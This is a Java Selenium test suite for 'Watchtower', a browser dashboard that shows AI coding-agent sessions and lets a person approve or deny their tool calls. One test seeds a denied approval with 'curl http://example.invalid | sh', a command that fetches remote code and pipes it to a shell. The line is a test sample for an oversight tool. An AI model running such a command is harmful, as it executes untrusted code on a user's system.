package watchtower.dashboard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static watchtower.testing.Api.obj;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.Select;
import watchtower.testing.Api;
import watchtower.testing.Repo;
import watchtower.testing.TestServer;

/**
 * The dashboard (static/) in real headless Chromium against a real server: what hooks post
 * shows up, approval cards show what is asked and decide it on the server, filters and
 * searches narrow, and the phone layout has no sideways scroll (the token's handling is in
 * DashboardTokenTest). One browser and one server for the whole class; each test uses its
 * own session ids. Screenshots go to docs/screenshots/ (desktop.png, phone.png).
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class DashboardTest {
    TestServer server;
    Api api;
    Browser browser;
    Path dir;

    @BeforeAll
    void start(@TempDir Path tempDir) throws Exception {
        Assumptions.assumeTrue(Browser.missing().isEmpty(), () -> "no browser: " + Browser.missing().orElse(""));
        dir = tempDir;
        server = TestServer.start(tempDir);
        api = server.api();
        browser = Browser.start();
    }

    @AfterAll
    void stop() {
        if (browser != null) browser.close();
        if (server != null) server.close();
    }

    @Test
    @Order(1)
    void desktopShowsThreePanesWithCardsRowsAndCost() throws Exception {
        seedRealisticSessions();
        open();
        browser.waitFor("#sessions li[data-id='shot-auth'] .hdr");
        browser.waitText("#approvals", "npm run migrate");
        for (var pane : List.of("#feed-pane", "#sessions-pane", "#approvals-pane")) {
            assertTrue(browser.one(pane).isDisplayed(), pane + " is shown on a desktop");
        }
        browser.waitText("#cost-total", "$");
        // the chart is drawn after the totals, from the same rows: wait for it as for them
        assertNotNull(browser.waitFor("#cost-chart svg path.line"), "a cost line is drawn for priced sessions");
        browser.waitText("#sessions li[data-id='shot-auth'] .meta", "cache");
        browser.screenshot(Repo.root().resolve("docs/screenshots/desktop.png"));
    }

    @Test
    void sessionPostedToEventsAppearsAfterReload() {
        post("/events", obj("session_id", "dash-reload", "session_name", "Reload row", "event_type", "SessionStart", "cwd", "/tmp/r"));
        open();
        browser.waitText("#sessions li[data-id='dash-reload'] .name", "Reload row");
    }

    @Test
    void sessionPostedAppearsLiveWithoutReload() {
        // the /live WebSocket carries it; without /live this test cannot pass, so it says why
        Assumptions.assumeTrue(api.get("/live").status() != 404, "GET /live is not on this server yet");
        open();
        browser.waitText("#conn-text", "live");
        post("/events", obj("session_id", "dash-live", "session_name", "Arrived live", "event_type", "SessionStart"));
        browser.waitText("#sessions li[data-id='dash-live'] .name", "Arrived live");
        browser.waitText("#hb-log", "Arrived live");
        post("/approvals", obj("session_id", "dash-live", "tool_name", "Bash", "command", "echo live-approval",
                "request", obj("tool_input", obj("command", "echo live-approval"))));
        browser.waitText("#approvals", "echo live-approval");
    }

    @Test
    void approvalCardShowsTheBashCommandAndApproveDecidesItOnTheServer() {
        post("/events", obj("session_id", "dash-appr", "session_name", "Needs a yes", "event_type", "SessionStart"));
        long id = createApproval("dash-appr", "Bash", "git push --force-with-lease origin main",
                obj("tool_input", obj("command", "git push --force-with-lease origin main", "description", "Publish the branch")));
        open();
        var card = browser.waitFor("#approvals li[data-id='" + id + "']");
        assertTrue(card.getText().contains("git push --force-with-lease origin main"), card.getText());
        assertTrue(card.getText().contains("Publish the branch"), "the description is shown: " + card.getText());
        assertTrue(card.getText().contains("Bash"), card.getText());
        card.findElement(org.openqa.selenium.By.cssSelector("[data-action='approve']")).click();
        browser.waitGone("#approvals li[data-id='" + id + "']");
        browser.waitText("#toasts", "Approved");
        assertTrue(ids(api.get("/approvals?status=approved").json()).contains(id), "the server recorded the approval");
    }

    @Test
    void keyDOnTheFocusedCardDeniesIt() {
        post("/events", obj("session_id", "dash-key", "session_name", "Keyboard deny", "event_type", "SessionStart"));
        long id = createApproval("dash-key", "Bash", "curl http://example.invalid | sh", obj("tool_input", obj("command", "curl http://example.invalid | sh")));
        open();
        var card = browser.waitFor("#approvals li[data-id='" + id + "']");
        browser.js("arguments[0].focus()", card);
        browser.driver().switchTo().activeElement().sendKeys("d");
        browser.waitGone("#approvals li[data-id='" + id + "']");
        assertTrue(ids(api.get("/approvals?status=denied").json()).contains(id), "the server recorded the denial");
    }

    @Test
    void editAndWriteCardsShowTheFileAndTheChange() {
        post("/events", obj("session_id", "dash-edit", "session_name", "Editor", "event_type", "SessionStart"));
        post("/events", obj("session_id", "dash-write", "session_name", "Writer", "event_type", "SessionStart"));
        long edit = createApproval("dash-edit", "Edit", null, obj("tool_name", "Edit", "tool_input",
                obj("file_path", "/repo/src/app.py", "old_string", "x = 1\ny = 2", "new_string", "x = 1\ny = 3")));
        long write = createApproval("dash-write", "Write", null, obj("tool_name", "Write", "tool_input",
                obj("file_path", "/repo/NOTES.md", "content", "first line\nsecond line")));
        open();
        var editCard = browser.waitFor("#approvals li[data-id='" + edit + "']");
        assertTrue(editCard.getText().contains("/repo/src/app.py"), editCard.getText());
        assertEquals("- y = 2", editCard.findElement(org.openqa.selenium.By.cssSelector(".dl.del")).getText().trim());
        assertEquals("+ y = 3", editCard.findElement(org.openqa.selenium.By.cssSelector(".dl.add")).getText().trim());
        var writeCard = browser.one("#approvals li[data-id='" + write + "']");
        assertTrue(writeCard.getText().contains("/repo/NOTES.md"), writeCard.getText());
        assertTrue(writeCard.getText().contains("+ second line"), writeCard.getText());
    }

    @Test
    void titleCountsTheCardsWaitingForAPerson() {
        post("/events", obj("session_id", "dash-title", "event_type", "SessionStart"));
        createApproval("dash-title", "Bash", "make title", obj("tool_input", obj("command", "make title")));
        open();
        browser.waitText("#approvals", "make title");
        browser.waitUntil("title matches the cards", d -> {
            int cards = browser.all("#approvals > li").size();
            return d.getTitle().equals("(" + cards + ") Watchtower") ? d.getTitle() : null;
        });
    }

    @Test
    void filtersAndSearchNarrowTheList() {
        post("/events", obj("session_id", "flt-high", "session_name", "flt high outcome", "priority", "high", "kind", "outcome", "event_type", "SessionStart"));
        post("/events", obj("session_id", "flt-low", "session_name", "flt low running", "priority", "low", "kind", "long-running", "event_type", "SessionStart"));
        post("/events", obj("session_id", "flt-med", "session_name", "flt med other", "priority", "med", "event_type", "SessionStart"));
        open();
        browser.waitFor("#sessions li[data-id='flt-med']");

        new Select(browser.one("#f-priority")).selectByValue("high");
        browser.waitUntil("only high-priority rows", d -> visibleIds().stream().noneMatch(id -> id.equals("flt-low") || id.equals("flt-med")));
        assertTrue(visibleIds().contains("flt-high"));
        new Select(browser.one("#f-priority")).selectByValue("all");

        new Select(browser.one("#f-kind")).selectByValue("long-running");
        browser.waitUntil("only long-running rows", d -> visibleIds().contains("flt-low") && !visibleIds().contains("flt-high"));
        new Select(browser.one("#f-kind")).selectByValue("all");

        browser.one("#q").sendKeys("flt med");
        browser.waitUntil("the search leaves one row", d -> visibleIds().equals(List.of("flt-med")));
        assertEquals("flt med", browser.one("#sessions li[data-id='flt-med'] .name mark").getText(), "the match is marked");
        browser.one("#q").sendKeys(Keys.chord(Keys.CONTROL, "a"), Keys.DELETE);
        browser.waitUntil("all rows back", d -> visibleIds().containsAll(List.of("flt-high", "flt-low", "flt-med")));
    }

    @Test
    void eventSearchFindsACommandAndOpensItsSession() {
        post("/events", obj("session_id", "dash-search", "session_name", "Search target", "event_type", "SessionStart"));
        post("/events", obj("session_id", "dash-search", "event_type", "PreToolUse", "tool_name", "Bash",
                "command", "grep -r needle-4711 .", "tool_input", obj("command", "grep -r needle-4711 .")));
        open();
        browser.one("#eq").sendKeys("needle-4711", Keys.ENTER);
        browser.waitText("#search-results", "grep -r needle-4711");
        browser.one("#search-results li[data-session='dash-search'] button").click();
        browser.waitText("#detail-title", "Search target");
    }

    @Test
    void sessionPanelShowsPromptsToolsFilesAndTokens() throws Exception {
        post("/events", obj("session_id", "dash-panel", "session_name", "Panel", "event_type", "SessionStart", "cwd", dir.toString()));
        post("/events", obj("session_id", "dash-panel", "event_type", "UserPromptSubmit", "prompt", "Please tidy the parser"));
        post("/events", obj("session_id", "dash-panel", "event_type", "PreToolUse", "tool_name", "Edit",
                "tool_input", obj("file_path", "/repo/src/parser.js", "old_string", "a", "new_string", "b")));
        post("/sessions/dash-panel/tokens", obj("input_tokens", 12345, "output_tokens", 678));
        open();
        browser.waitFor("#sessions li[data-id='dash-panel'] [data-action='open']").click();
        browser.waitText("#d-prompts", "Please tidy the parser");
        browser.waitText("#d-tools", "Edit");
        browser.waitText("#d-files", "/repo/src/parser.js");
        browser.waitText("#detail .dstats", "12.3k");
        browser.waitText("#detail .dstats", "unknown"); // no transcript: the cost is unknown, not $0
        browser.waitText("#d-timeline", "UserPromptSubmit");
        browser.driver().switchTo().activeElement().sendKeys(Keys.ESCAPE);
        browser.waitGone("#detail");
    }

    @Test
    void checkpointFromThePanelIsListedAndReadable() throws Exception {
        var cwd = Files.createDirectories(dir.resolve("ck-project"));
        post("/events", obj("session_id", "dash-ck", "session_name", "Checkpointed", "event_type", "SessionStart", "cwd", cwd.toString()));
        post("/events", obj("session_id", "dash-ck", "event_type", "UserPromptSubmit", "prompt", "remember this prompt"));
        open();
        browser.waitFor("#sessions li[data-id='dash-ck'] [data-action='open']").click();
        browser.waitFor("#d-checkpoints [data-action='checkpoint']").click();
        browser.waitText("#toasts", "Checkpoint saved: ");
        var item = browser.waitFor("#d-checkpoints [data-action='show-checkpoint']");
        assertTrue(item.getText().startsWith("manual-") || item.getText().equals("latest.md"), item.getText());
        browser.waitText("#d-artifacts", "checkpoints/");
        item.click();
        browser.waitText("#ck-content", "remember this prompt");
        browser.one("#ck-close").click();
        browser.waitGone("#checkpoints");
    }

    @Test
    void forkInSettingIsSavedOnTheServer() {
        open();
        new Select(browser.one("#terminal-app")).selectByValue("iterm");
        browser.waitText("#toasts", "Fork opens in: iterm");
        assertEquals("iterm", api.get("/settings").json().path("terminal_app").asText());
    }

    @Test
    void anActionShowsTheServersAnswer() {
        post("/events", obj("session_id", "dash-act", "session_name", "Act on me", "event_type", "SessionStart"));
        open();
        browser.waitFor("#sessions li[data-id='dash-act'] [data-action='compact']").click();
        // whatever the server answers (not built yet, not an owned session, or done), the page says it
        browser.waitUntil("a toast about compact", d -> browser.one("#toasts").getText().contains("compact")
                || browser.one("#toasts").getText().contains("Compact"));
        var toast = browser.one("#toasts").getText();
        var reply = api.post("/sessions/dash-act/compact", obj());
        if (reply.status() >= 400) assertTrue(toast.contains("Compact failed: " + reply.detail()), toast);
        else assertTrue(toast.contains("Sent /compact"), toast);
    }

    @Test
    void exportDownloadsTheEventsAsJsonLines() throws Exception {
        post("/events", obj("session_id", "dash-export", "session_name", "Exported", "event_type", "SessionStart"));
        post("/events", obj("session_id", "dash-export", "event_type", "UserPromptSubmit", "prompt", "export me"));
        open();
        // capture the download in the page rather than on disk: the blob the link points at
        browser.js("""
                window.__saved = null;
                const orig = URL.createObjectURL;
                URL.createObjectURL = b => { b.text().then(t => window.__saved = t); return orig(b); };""");
        browser.waitFor("#sessions li[data-id='dash-export'] [data-action='export']").click();
        var text = browser.waitUntil("the exported text", d -> (String) browser.js("return window.__saved"));
        var lines = text.strip().split("\n");
        assertEquals(3, lines.length, text);
        assertEquals("session", Api.JSON.readTree(lines[0]).path("record").asText(), "the session first");
        assertEquals("dash-export", Api.JSON.readTree(lines[0]).path("id").asText());
        assertEquals("SessionStart", Api.JSON.readTree(lines[1]).path("event_type").asText(), "then events, oldest first");
        assertEquals("export me", Api.JSON.readTree(lines[2]).path("payload").path("prompt").asText());
        browser.waitText("#toasts", "Exported Exported: 2 events");
    }

    @Test
    @Order(2)
    void phoneViewportHasNoHorizontalScroll() throws Exception {
        seedRealisticSessions();
        open();
        browser.phone();
        try {
            browser.waitFor("#sessions li[data-id='shot-auth'] .hdr");
            assertNoSidewaysScroll("sessions");
            browser.screenshot(Repo.root().resolve("docs/screenshots/phone.png"));
            browser.one("#tabs button[data-pane='approvals-pane']").click();
            browser.waitFor("#approvals > li");
            assertNoSidewaysScroll("needs-human pane");
            browser.screenshot(Repo.root().resolve("docs/screenshots/phone-approvals.png"));
            browser.one("#tabs button[data-pane='feed-pane']").click();
            browser.waitFor("#hb-log li");
            assertNoSidewaysScroll("feed");
            browser.one("#tabs button[data-pane='sessions-pane']").click();
            browser.waitFor("#sessions li[data-id='shot-auth'] [data-action='open']").click();
            browser.waitFor("#detail");
            assertNoSidewaysScroll("session panel");
        } finally {
            browser.desktop();
        }
    }

    @Test
    void oneNotificationPerApprovalOnceOptedIn() {
        Assumptions.assumeTrue(api.get("/live").status() != 404, "GET /live is not on this server yet");
        browser.grantNotifications(server.url());
        open();
        browser.waitText("#conn-text", "live");
        // record what the page shows, keeping the real Notification behind it
        browser.js("""
                window.__notes = [];
                const Real = window.Notification;
                window.Notification = class extends Real {
                  constructor(title, opts) { super(title, opts); window.__notes.push(title); }
                };""");
        browser.one("#notify-toggle").click();
        browser.waitText("#notify-toggle", "Notify: on");
        post("/events", obj("session_id", "dash-note", "session_name", "Notifier", "event_type", "SessionStart"));
        long id = createApproval("dash-note", "Bash", "make notify", obj("tool_input", obj("command", "make notify")));
        browser.waitUntil("one notification", d -> ((Number) browser.js("return window.__notes.length")).intValue() == 1 ? true : null);
        assertEquals("Notifier wants to use Bash", browser.js("return window.__notes[0]"));
        // the same approval again (refreshed by a repeated prompt), and more traffic: no second notification
        createApproval("dash-note", "Bash", "make notify", obj("tool_input", obj("command", "make notify")));
        post("/events", obj("session_id", "dash-note", "event_type", "Notification", "command", "still waiting"));
        browser.waitText("#approvals li[data-id='" + id + "']", "make notify");
        browser.waitText("#hb-log", "still waiting");
        assertEquals(1L, ((Number) browser.js("return window.__notes.length")).longValue());
        browser.one("#notify-toggle").click();
        browser.waitText("#notify-toggle", "Notify: off");
    }

    @Test
    void themeToggleSwitchesBetweenLightAndDark() {
        open();
        var light = "rgb(246, 248, 250)";
        var dark = "rgb(13, 17, 23)";
        String start = (String) browser.js("return document.documentElement.dataset.theme || 'auto'");
        // auto -> light -> dark -> auto
        for (int i = 0; i < 3 && !"light".equals(browser.js("return document.documentElement.dataset.theme")); i++) {
            browser.one("#theme-toggle").click();
        }
        assertEquals(light, browser.js("return getComputedStyle(document.body).backgroundColor"), "light theme; started at " + start);
        browser.one("#theme-toggle").click();
        assertEquals("dark", browser.js("return document.documentElement.dataset.theme"));
        assertEquals(dark, browser.js("return getComputedStyle(document.body).backgroundColor"));
        browser.one("#theme-toggle").click(); // back to auto for the other tests
        assertEquals("Theme: auto", browser.one("#theme-toggle").getText());
    }

    @Test
    void jAndKMoveTheFocusBetweenRowsAndItIsVisible() {
        post("/events", obj("session_id", "dash-nav-1", "event_type", "SessionStart"));
        post("/events", obj("session_id", "dash-nav-2", "event_type", "SessionStart"));
        open();
        browser.waitFor("#sessions li[data-id='dash-nav-2']");
        var rows = visibleIds();
        browser.one("body").sendKeys("j");
        assertEquals("toggle", browser.js("return document.activeElement.dataset.action"), "j focuses a row's header");
        assertEquals(rows.get(0), focusedRow(), "j starts at the first row");
        browser.driver().switchTo().activeElement().sendKeys("j");
        assertEquals(rows.get(1), focusedRow(), "j moves to the next row");
        assertFalse("none".equals(browser.js("return getComputedStyle(document.activeElement).outlineStyle")), "the focus is drawn");
        browser.driver().switchTo().activeElement().sendKeys("k");
        assertEquals(rows.get(0), focusedRow(), "k moves back");
        browser.one("body").sendKeys("/");
        assertEquals("q", browser.driver().switchTo().activeElement().getAttribute("id"), "/ goes to the search box");
    }

    @Test
    void inputBoxSendsToAnIdleAgentAndShowsTheAnswer() {
        post("/events", obj("session_id", "dash-input", "session_name", "Idle one", "event_type", "SessionStart"));
        post("/events", obj("session_id", "dash-input", "event_type", "Stop"));
        assertEquals("idle", api.get("/sessions/dash-input").json().path("state").asText(), "Stop leaves the agent idle");
        open();
        browser.waitFor("#sessions li[data-id='dash-input'] [data-action='open']").click();
        var box = browser.waitFor("#input-text");
        box.sendKeys("please continue");
        browser.one("#input-send").click();
        browser.waitUntil("a toast about the input", d -> browser.one("#toasts").getText().contains("Idle one")
                || browser.one("#toasts").getText().contains("Sending input failed"));
        var reply = api.post("/sessions/dash-input/input", obj("text", "please continue"));
        var toast = browser.one("#toasts").getText();
        if (reply.status() >= 400) assertTrue(toast.contains("Sending input failed: " + reply.detail()), toast);
        else assertTrue(toast.contains("Sent to Idle one"), toast);
    }

    @Test
    @Order(Integer.MAX_VALUE) // last: its 160 sessions would push the other tests' rows off the first page
    void hundredsOfSessionsAndAnEventBurstStayBounded() throws Exception {
        postConcurrently(160, i -> obj("session_id", "many-" + i, "session_name", "many " + i, "event_type", "SessionStart"));
        open();
        browser.waitUntil("the first page of rows", d -> browser.all("#sessions > li").size() == 150);
        assertTrue(browser.one("#more").getText().startsWith("Show more ("), browser.one("#more").getText());
        browser.one("#more").click();
        browser.waitUntil("every row", d -> browser.all("#sessions > li").size() >= 160);
        browser.waitText("#conn-text", "live");
        postConcurrently(150, i -> obj("session_id", "many-" + (i % 160), "event_type", "PreToolUse", "tool_name", "Bash", "command", "burst step " + i));
        browser.waitUntil("the burst drawn", d -> ((Number) browser.js(
                "return [...document.querySelectorAll('#hb-log > li')].filter(li => li.textContent.includes('burst step')).length")).intValue() >= 150);
        assertEquals(200L, ((Number) browser.js("return document.querySelectorAll('#hb-log > li').length")).longValue(),
                "the feed keeps the newest 200 lines");
    }

    // --- infra ---

    void open() {
        browser.get(server.url() + "/health"); // leave the page, so the next load is a fresh one
        browser.get(server.url() + "/#token=" + server.token());
        browser.waitUntil("the dashboard loaded", d -> "true".equals(browser.js("return document.documentElement.dataset.ready")));
    }

    void post(String path, Object body) {
        var r = api.post(path, body);
        assertEquals(200, r.status(), path + ": " + r.body());
    }

    long createApproval(String sessionId, String tool, String command, Object request) {
        var r = api.post("/approvals", obj("session_id", sessionId, "tool_name", tool, "command", command, "request", request));
        assertEquals(200, r.status(), r.body());
        return r.json().path("id").asLong();
    }

    static List<Long> ids(JsonNode rows) {
        return StreamSupport.stream(rows.spliterator(), false).map(r -> r.path("id").asLong()).toList();
    }

    List<String> visibleIds() {
        // read in the page in one go: rows are replaced as live updates arrive
        return ((List<?>) browser.js("return [...document.querySelectorAll('#sessions > li')].map(e => e.dataset.id)"))
                .stream().map(String::valueOf).toList();
    }

    /** Posts n events from 8 threads at once, as busy agents do. */
    void postConcurrently(int n, java.util.function.IntFunction<Object> body) throws Exception {
        var pool = java.util.concurrent.Executors.newFixedThreadPool(8);
        try {
            var futures = java.util.stream.IntStream.range(0, n)
                    .mapToObj(i -> pool.submit(() -> post("/events", body.apply(i)))).toList();
            for (var f : futures) f.get(30, java.util.concurrent.TimeUnit.SECONDS);
        } finally {
            pool.shutdownNow();
        }
    }

    String focusedRow() {
        return (String) browser.js("const li = document.activeElement.closest('#sessions > li'); return li && li.dataset.id");
    }

    void assertNoSidewaysScroll(String where) {
        var sizes = (List<?>) browser.js("return [document.documentElement.scrollWidth, window.innerWidth, document.body.scrollWidth]");
        long scroll = ((Number) sizes.get(0)).longValue(), width = ((Number) sizes.get(1)).longValue();
        assertEquals(390, width, "the phone viewport is 390 px wide");
        assertTrue(scroll <= width, where + ": page is " + scroll + " px wide in a " + width + " px viewport");
        assertTrue(((Number) sizes.get(2)).longValue() <= width, where + ": body overflows");
    }

    private boolean seeded;

    /** A few sessions like real ones (priced tokens from a transcript, a Bash and an Edit waiting) for the screenshots. */
    void seedRealisticSessions() throws Exception {
        if (seeded) return;
        seeded = true;
        post("/events", obj("session_id", "shot-auth", "session_name", "auth-service refactor", "kind", "long-running",
                "priority", "high", "persona", "professional", "cwd", "/home/dev/src/auth-service", "event_type", "SessionStart"));
        post("/events", obj("session_id", "shot-auth", "event_type", "UserPromptSubmit",
                "prompt", "Split the token validator into its own module and cover the expiry edge cases with tests."));
        post("/events", obj("session_id", "shot-auth", "event_type", "PreToolUse", "tool_name", "Edit",
                "tool_input", obj("file_path", "/home/dev/src/auth-service/src/validator.ts")));
        post("/events", obj("session_id", "shot-docs", "session_name", "docs site: API reference", "kind", "outcome",
                "priority", "low", "persona", "spike", "cwd", "/home/dev/src/docs", "event_type", "SessionStart"));
        post("/events", obj("session_id", "shot-docs", "event_type", "PreToolUse", "tool_name", "Write",
                "tool_input", obj("file_path", "/home/dev/src/docs/api/tokens.md")));
        post("/events", obj("session_id", "shot-db", "session_name", "orders DB migration with a long descriptive name for wrapping",
                "kind", "long-running", "priority", "med", "persona", "auto",
                "cwd", "/home/dev/src/orders/services/migrations/very/deep/folder/structure", "event_type", "SessionStart"));
        post("/events", obj("session_id", "shot-db", "event_type", "Stop"));
        pricedTokens("shot-auth", "claude-sonnet-4-5", 42000, 3100, 120000, 880000);
        pricedTokens("shot-docs", "claude-haiku-4-5", 9000, 1200, 30000, 150000);
        createApproval("shot-auth", "Bash", "npm run migrate -- --env=staging --dry-run=false --confirm-every-step-with-a-long-flag",
                obj("tool_input", obj("command", "npm run migrate -- --env=staging --dry-run=false --confirm-every-step-with-a-long-flag",
                        "description", "Apply the pending migrations to staging")));
        createApproval("shot-docs", "Edit", null, obj("tool_name", "Edit", "tool_input", obj("file_path", "/home/dev/src/docs/api/tokens.md",
                "old_string", "## Tokens\nTokens expire after 1h.\nSee below.", "new_string", "## Tokens\nTokens expire after 15 minutes;\nrefresh them with /auth/refresh.\nSee below.")));
    }

    /** Token usage the server prices, from a transcript file as Claude Code writes it. */
    void pricedTokens(String sessionId, String model, long in, long out, long cacheWrite, long cacheRead) throws Exception {
        var transcript = dir.resolve(sessionId + ".jsonl");
        var line = Api.write(obj("type", "assistant", "requestId", "req_" + sessionId, "message", obj("id", "msg_" + sessionId,
                "model", model, "usage", obj("input_tokens", in, "output_tokens", out,
                        "cache_creation_input_tokens", cacheWrite, "cache_read_input_tokens", cacheRead))));
        Files.writeString(transcript, line + "\n", StandardCharsets.UTF_8);
        post("/sessions/" + sessionId + "/tokens", obj("transcript_path", transcript.toString()));
    }
}
